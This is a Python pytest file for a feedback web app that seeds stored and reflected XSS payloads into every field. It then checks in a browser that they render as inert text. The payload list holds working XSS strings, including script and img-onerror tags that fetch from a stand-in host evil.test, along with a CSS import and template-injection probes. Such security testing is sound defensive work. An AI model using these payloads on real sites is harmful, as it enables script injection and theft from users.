"""Stored and reflected XSS: text that users, agents and the model wrote runs nothing.

Every payload lands in every text field the pages show (prompts, answers, comments,
reasons, user ids, corrections, notes, an agent's name, gate reasons, metric names,
query strings). Each page is then opened in Chromium, which must show the payloads
as text: no dialog, no request anywhere but Tuneback, no injected element.
"""

from __future__ import annotations

import pytest
from sqlalchemy.orm import Session

from feedback import store
from feedback.adapters.registry import Registry
from tests.web.support import make_adapter_files, screenshot, sign_in

PAYLOADS = [
    '<script>window.__xss="script";fetch("http://evil.test/script")</script>',
    "<img src=x onerror=\"window.__xss='img';fetch('http://evil.test/img')\">",
    '<svg onload="window.__xss=\'svg\'"><svg/onload=alert("svg")>',
    "javascript:alert('link')",
    "<a href=\"javascript:alert('anchor')\">click me</a>",
    '"><img src="http://evil.test/break" onerror=alert("attr")>',
    "'><script>alert('single')</script>",
    "</textarea><script>alert('textarea')</script>",
    "</title><script>alert('title')</script>",
    "<iframe src=\"javascript:alert('frame')\"></iframe>",
    "<style>@import 'http://evil.test/css';</style>",
    "{{ 7*7 }} ${7*7} {% raw %}",
]
PAYLOAD = "\n".join(PAYLOADS)
INJECTED = (
    "script:not([src]), script[src*='evil'], img[onerror], img[src='x'], svg[onload], "
    "iframe, a[href^='javascript'], style:not([data-keep]), [onload], [onerror], [onclick]"
)


@pytest.fixture(scope="module")
def poisoned(site, tmp_path_factory):
    """Payloads in every field, one queued answer and one corrected answer, an adapter."""
    with Session(site.engine) as session:
        _, key = store.create_api_key(session, role="agent", name=PAYLOAD[:200])
        session.commit()
    site.keys["evil-agent"] = key
    queued = site.completion(PAYLOAD, PAYLOAD, metadata={"x": PAYLOAD})
    site.vote(queued, "down", reason=PAYLOAD[:200], comment=PAYLOAD, user=PAYLOAD[:256])
    fixed = site.completion(PAYLOAD, PAYLOAD)
    site.vote(fixed, "down", comment=PAYLOAD)
    with Session(site.engine) as session:
        store.add_correction(
            session, completion_id=fixed, corrected_response=PAYLOAD, note=PAYLOAD,
            author=PAYLOAD[:200],
        )  # fmt: skip
        session.commit()
    registry = Registry(site.settings.data_dir / "adapters", site.engine)
    folder = make_adapter_files(tmp_path_factory.mktemp("src") / "a", base="b", seed=1)
    gate = {"passed": False, "reasons": PAYLOADS, "thresholds": {"primary": PAYLOADS[5]}}
    metrics = {"candidate": {PAYLOADS[5]: 0.5}, "base": {PAYLOADS[5]: 0.2}}
    version = registry.add(folder, base_model="b", metrics=metrics, gate=gate, status="rejected")
    return {"queued": queued, "fixed": fixed, "version": version.version}


def pages(site, poisoned) -> list[str]:
    from urllib.parse import quote

    q = quote(PAYLOADS[7])
    return [
        "/review",
        f"/review/{poisoned['queued']}",
        f"/review/{poisoned['queued']}?draft={q}",  # ignored: links plant no drafts
        f"/review/{poisoned['fixed']}",
        "/review/history",
        "/dashboard",
        f"/dashboard/promote/{poisoned['version']}",
        "/dashboard/rollback",
    ]


def watch(page, site):  # noqa: ANN001, ANN201
    """Record dialogs and any request that leaves Tuneback (and block it)."""
    seen = {"dialogs": [], "requests": []}
    page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))

    def record(route):  # noqa: ANN001, ANN202
        if not route.request.url.startswith(site.url + "/"):
            seen["requests"].append(route.request.url)
            return route.abort()
        return route.continue_()

    page.route("**/*", record)
    return seen


@pytest.mark.parametrize("role", ["evil-agent", "admin"])
def test_payloads_execute_nothing_on_any_page(page, site, poisoned, role, shots):
    seen = watch(page, site)
    sign_in(page, site, role)
    for path in pages(site, poisoned):
        if path.startswith("/dashboard") and role != "admin":
            continue
        response = page.goto(site.url + path)
        assert response.status == 200, path
        assert "script-src 'self'" in response.headers["content-security-policy"]
        assert page.evaluate("window.__xss") is None, path
        assert page.locator(INJECTED).count() == 0, (path, page.locator(INJECTED).first)
        html = page.content()
        assert not any(key in html for key in site.keys.values()), path
        if path.startswith("/review/"):
            # The payload is shown, as text, exactly as it was written.
            assert PAYLOADS[0] in page.locator("main").inner_text(), path
            assert "{{ 7*7 }} ${7*7}" in page.locator("main").inner_text()  # not evaluated
    if role == "admin":
        page.goto(f"{site.url}/review/{poisoned['queued']}")
        screenshot(page, shots, "xss-as-text")
    assert seen["dialogs"] == []
    assert seen["requests"] == []


def test_reflected_payloads_in_the_sign_in_form_execute_nothing(page, site):
    from urllib.parse import quote

    seen = watch(page, site)
    page.goto(f"{site.url}/signin?next={quote(PAYLOADS[5] + PAYLOADS[0])}")
    assert page.locator(INJECTED).count() == 0
    page.get_by_label("Key").fill(PAYLOAD[:200])
    page.get_by_role("button", name="Sign in").click()
    page.get_by_text("That key is unknown or revoked.").wait_for()
    assert page.locator(INJECTED).count() == 0
    assert page.evaluate("window.__xss") is None
    assert seen["dialogs"] == [] and seen["requests"] == []
